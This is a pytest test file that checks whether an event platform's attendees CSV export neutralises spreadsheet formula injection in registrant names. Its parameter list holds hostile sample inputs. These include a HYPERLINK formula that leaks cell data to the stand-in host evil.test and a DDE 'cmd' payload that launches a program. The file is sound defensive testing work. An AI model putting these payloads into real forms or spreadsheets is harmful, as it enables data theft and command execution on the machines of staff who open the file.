"""Registrants name themselves: the attendees CSV that staff open in a spreadsheet never
carries a name (or address) a spreadsheet would run as a formula, whatever the registrant
typed in their profile."""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import bearer

NAMES = ['=HYPERLINK("http://evil.test/?leak="&A2,"Open")', "+1+1", "-2+3", "@SUM(1,2)",
         "\t=1+1", "\r\n=1+1", " =cmd|' /C calc'!A0"]


@pytest.mark.parametrize("typed", NAMES)
def test_a_registrant_named_like_a_formula_is_exported_as_text(client, auth, api_token,
                                                                schedule, typed):
    session_id = schedule()
    auth.login("premium@demo.test")
    saved = auth.post("/account", {"name": typed, "time_zone": "UTC"})
    assert saved.status_code == 302
    auth.logout()
    registered = client.post(f"/api/v1/live-sessions/{session_id}/registration",
                             headers=bearer(api_token("premium@demo.test")))
    assert registered.status_code == 201
    auth.login("staff@demo.test")
    exported = client.get(f"/sessions/staff/live/{session_id}/attendees.csv")
    assert exported.status_code == 200
    (row,) = csv.DictReader(io.StringIO(exported.get_data(as_text=True)))
    assert all(value[:1] not in ("=", "+", "-", "@", "\t", "\r") for value in row.values()
               if value and not value[:1].isdigit()), row
    assert row["name"].startswith("'") and typed.strip() in row["name"]
